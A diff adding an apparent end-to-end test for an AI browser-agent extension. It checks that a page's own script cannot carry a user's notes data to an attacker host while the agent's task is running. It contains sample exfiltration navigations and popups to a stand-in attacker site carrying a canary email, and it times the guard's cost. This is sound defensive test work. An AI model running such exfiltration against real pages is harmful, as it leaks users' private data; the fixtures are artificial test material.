@@ -1,0 +1,146 @@
+/**
+ * Loads the page makes by itself while a task works in its tab (issue #11; src/background/browser/redirect-guard.ts,
+ * popup-guard.ts), against the loads a person makes there, in one browser with the built extension:
+ * - while the task waits on the model (no action runs), the page's script carrying the notes' data to another
+ *   site is stopped, and so is a new window it opens with that data;
+ * - the user's own loads in the same tab and in new tabs (an address typed: the browser starts it) go at once,
+ *   data or not, and a link the user opens in a new tab loads after one round trip to the worker;
+ * - the cost, printed: a load the page makes in the watched tab, and a link opened in a new tab, with and without
+ *   a task watching.
+ * The attacks that wait until the approved action settled are in attacks/later.ts (redteam-attacks.e2e.ts).
+ */
+import type { Page } from 'puppeteer';
+import { afterAll, beforeAll, expect, it } from 'vitest';
+import { createGate } from '../fake-llm/index.js';
+import { sendTask, sessionView } from './helpers/agent';
+import { ctxOf } from '../fixtures/pages/redteam/attack-runner';
+import { settingsFor, startHarness, stopHarness, type Harness } from '../fixtures/pages/redteam/harness';
+
+const EMAIL = 'alice.canary@victim.example';
+const h = {} as Harness;
+
+beforeAll(async () => {
+  Object.assign(h, await startHarness());
+  await settingsFor(h, 'act-without-asking');
+}, 60_000);
+
+afterAll(() => stopHarness(h));
+
+const until = async (what: string, ok: () => Promise<boolean> | boolean, ms = 10_000) => {
+  const end = Date.now() + ms;
+  while (!(await ok())) {
+    if (Date.now() > end)
+      throw new Error(
+        `timed out waiting for ${what}: decisions ${(await decisions()).join(', ')}; canary got ${h.servers.canary.requests.map((r) => r.url).join(' ')}`,
+      );
+    await new Promise((r) => setTimeout(r, 25));
+  }
+};
+const decisions = async (): Promise<string[]> =>
+  (
+    (await h.ext.inWorker(
+      `globalThis.tabwright.sessions.get(${h.tabId}).then((l) => l.conversation.decisions ?? [])`,
+    )) as any[]
+  ).map((d) => `${d.tool}:${d.verdict}${process.env.DEBUG_LOADS ? ` ${d.reason}` : ''}`);
+const canaryGot = (path: string) => h.servers.canary.requests.some((r) => r.url.startsWith(path));
+const step = (what: string) => process.env.DEBUG_LOADS && console.log(new Date().toISOString().slice(11, 23), what);
+const median = (xs: number[]) => [...xs].sort((a, b) => a - b)[Math.floor(xs.length / 2)]!;
+
+/** Time for the page's own script to load a page of its site and for it to finish loading. */
+async function pageMadeLoad(page: Page, url: string): Promise<number> {
+  const t = performance.now();
+  await Promise.all([
+    page.waitForNavigation({ waitUntil: 'load' }),
+    page.evaluate((u) => {
+      location.href = u;
+    }, url),
+  ]);
+  return performance.now() - t;
+}
+
+/** Time from a click on a target=_blank link to the new tab's request reaching the server. */
+async function newTabLink(page: Page, url: string, path: string): Promise<number> {
+  await page.evaluate((u) => {
+    document.getElementById('tw-out')?.remove();
+    document.body.insertAdjacentHTML('afterbegin', `<a id="tw-out" target="_blank" href="${u}">out</a>`);
+  }, url);
+  await page.bringToFront(); // the tab opened last came to the front
+  const t = performance.now();
+  await page.click('#tw-out');
+  await until(`${path} to load`, () => canaryGot(path));
+  const ms = performance.now() - t;
+  for (const p of await h.ext.browser.pages()) if (p.url().includes(path)) await p.close();
+  return ms;
+}
+
+it("while a task works in the tab, the page's own loads are judged and the user's are not", async () => {
+  const o = ctxOf(h);
+  const notes = o.page(o.VICTIM, 'notes.html');
+  await h.page.goto(notes, { waitUntil: 'load' });
+  // Without a task: the cost baseline.
+  const before = { load: [] as number[], link: [] as number[] };
+  for (let i = 0; i < 5; i++) {
+    step(`before ${i}`);
+    before.load.push(await pageMadeLoad(h.page, `${notes}?n=${i}`));
+    step('link');
+    before.link.push(await newTabLink(h.page, `${o.ATTACKER}/w/survey.html?before=${i}`, `/w/survey.html?before=${i}`));
+  }
+
+  step('await h.ext.inWorker(`globalTh');
+  await h.ext.inWorker(`globalThis.tabwright.sessions.reset(${h.tabId})`);
+  const gate = createGate();
+  h.llm.reset();
+  h.llm.script([
+    { tool: 'snapshot', args: {} },
+    { say: 'Done.', hold: gate },
+  ]);
+  await sendTask(h.ext, h.tabId, 'Tidy up my notes');
+  step('await gate.reached;');
+  await gate.reached; // the task read the notes and waits on the model: no action runs now
+  await h.page.bringToFront();
+
+  // The page's script carries the notes' data to another site: stopped before the request leaves.
+  await h.page.evaluate((u) => {
+    location.href = u;
+  }, `${o.ATTACKER}/pagemade?e=${EMAIL}`);
+  step("await until('the refusal in");
+  await until('the refusal in the decision log', async () =>
+    (await decisions()).some((d) => d.startsWith('page load:deny')),
+  );
+  // A new window it opens with that data (noopener: the popup cannot reach back): stopped too.
+  await h.page.goto(notes, { waitUntil: 'load' });
+  await h.page.evaluate((u) => void window.open(u, '_blank', 'noopener'), `${o.ATTACKER}/popup?e=${EMAIL}`);
+  step("await until('the second refusa");
+  await until(
+    'the second refusal',
+    async () => (await decisions()).filter((d) => d.startsWith('page load:deny')).length >= 2,
+  );
+
+  await h.page.bringToFront(); // the new window came to the front
+
+  const during = { load: [] as number[], link: [] as number[] };
+  for (let i = 0; i < 5; i++) {
+    during.load.push(await pageMadeLoad(h.page, `${notes}?d=${i}`));
+    during.link.push(await newTabLink(h.page, `${o.ATTACKER}/w/survey.html?during=${i}`, `/w/survey.html?during=${i}`));
+  }
+
+  step('// The user types');
+  // The user types an address with the same data into this tab, and into a new tab: both go, unjudged.
+  await h.page.goto(`${o.ATTACKER}/typed?e=${EMAIL}`);
+  // A new tab the user opens (or a test: no page started that load) is not touched either.
+  const typed = await h.ext.browser.newPage();
+  await typed.goto(`${o.ATTACKER}/newtab?e=${EMAIL}`);
+  expect(canaryGot('/typed') && canaryGot('/newtab')).toBe(true);
+  await typed.close();
+  expect(canaryGot('/pagemade') || canaryGot('/popup')).toBe(false);
+  expect((await decisions()).filter((d) => d.startsWith('page load:deny'))).toHaveLength(2);
+
+  step('gate.release();');
+  gate.release();
+  await until('the task to end', async () => (await sessionView(h.ext, h.tabId)).status !== 'running');
+  const ms = (xs: number[]) => `${Math.round(median(xs))} ms`;
+  console.log(
+    `page-made load in the tab: ${ms(before.load)} without a task, ${ms(during.load)} watched; ` +
+      `link opened in a new tab: ${ms(before.link)} without a task, ${ms(during.link)} watched (medians of 5)`,
+  );
+}, 120_000);
